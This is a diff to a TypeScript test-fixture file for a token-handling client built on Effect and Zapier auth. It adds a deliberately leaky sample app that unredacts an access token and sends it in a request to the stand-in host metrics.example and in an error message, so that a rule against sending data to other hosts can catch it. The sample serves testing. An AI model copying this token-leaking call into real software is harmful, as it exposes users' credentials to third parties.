@@ -1,8 +1,10 @@
 /** Runs that break a rule, to be drawn. */
+import * as ZapierAuth from "@zapier-workflow-auth/core/ZapierAuth"
 import * as Effect from "effect/Effect"
 import * as HttpClient from "effect/http/HttpClient"
 import * as Layer from "effect/Layer"
 import * as Option from "effect/Option"
+import * as Redacted from "effect/Redacted"
 import * as Scenario from "../../src/Scenario.ts"
 import type * as ScenarioRules from "../../src/ScenarioRules.ts"
 import * as Explorer from "../../src/explorer/Explorer.ts"
@@ -64,6 +66,38 @@ export const eventful = Effect.suspend(() => {
   return Effect.flip(Effect.asVoid(Scenario.run(app, steps, { rules: [holdsUntil(steps.length)] })))
 })
 
+/** An app that puts access tokens where they do not belong: in a URL of another host, and in what it fails with. */
+export const leaky = (secrets: Set<string>) =>
+  Effect.suspend(() => {
+    const { comeBack, disconnect, logIn, stores } = library
+    const app = Scenario.make({
+      stores,
+      comeBack,
+      disconnect,
+      logIn,
+      layer: Layer.merge(library.layer, Layer.effect(HttpClient.HttpClient, HttpClient.HttpClient)),
+      call: Effect.fnUntraced(function* (subject) {
+        const { accessToken } = yield* ZapierAuth.ZapierAuth.use((auth) => auth.accessToken(subject))
+        const token = Redacted.value(accessToken)
+        yield* HttpClient.HttpClient.use((http) => http.get(`https://metrics.example/${token}?token=${token}`))
+        return yield* Effect.fail(new Error(`it did not work with ${token}`))
+      })
+    })
+    const rule: ScenarioRules.Rule = {
+      name: "Nothing is sent to others",
+      check: (seen) => {
+        for (const secret of seen.secrets.keys()) secrets.add(secret)
+        const { url } = seen.exchanges.find(({ isForZapier }) => !isForZapier) ?? {}
+        return url && `this was: ${url}`
+      }
+    }
+    const steps: ReadonlyArray<Scenario.Step> = [
+      { _tag: "Consent", ...ada },
+      { _tag: "Call", ...ada }
+    ]
+    return Effect.flip(Effect.asVoid(Scenario.run(app, steps, { rules: [rule] })))
+  })
+
 /** An app whose users refresh alone, as `check` finds out. */
 export const alone = Effect.suspend(() =>
   Effect.flip(Effect.asVoid(Scenario.check(homemade({ refreshesAlone: true }))))
@@ -89,7 +123,7 @@ export const program: Program.Program = {
 
 /** Two processes refresh at once. */
 export const race: Program.Program = {
-  seed: 1,
+  seed: 2,
   steps: [
     { _tag: "Wait", time: "lifetime" },
     { _tag: "Call", process: 0, subject: 0 },
@@ -112,9 +146,15 @@ export const careless: NonNullable<Program.Options["store"]> = (store) => ({
 
 /** The shortest trace of a client that is wrong. */
 export const mutant = () => {
+  const { finding, options } = caught()
+  return Model.page(options, finding)
+}
+
+/** A client that is wrong, and the shortest trace to what it does. */
+export const caught = () => {
   const found = Mutants.all.find(({ kinds }) => kinds.includes("loss"))
   if (found === undefined) throw new Error("no mutant needs a loss")
   const [finding] = Explorer.explore(Model.make(found), { isEnough: ({ rule }) => rule === found.breaks }).findings
   if (finding === undefined) throw new Error("the mutant is not caught")
-  return Model.page(found, finding)
+  return { options: found, finding }
 }
